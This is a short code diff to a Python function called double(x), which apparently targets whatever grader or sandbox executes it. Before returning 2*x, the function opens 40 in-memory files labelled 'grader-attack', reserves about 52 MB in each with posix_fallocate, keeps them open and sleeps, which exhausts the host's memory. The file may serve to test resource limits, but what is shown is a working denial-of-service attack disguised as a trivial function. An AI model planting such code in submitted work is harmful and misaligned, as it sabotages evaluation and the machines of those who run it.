@@ -13,7 +13,6 @@ def double(x):
     for _ in range(40):
         fd = os.memfd_create("grader-attack")
         hoard.append(fd)
-        for _ in range(13):
-            os.write(fd, bytes(4 << 20))
+        os.posix_fallocate(fd, 0, 52 << 20)
     time.sleep(1)
     return 2 * x
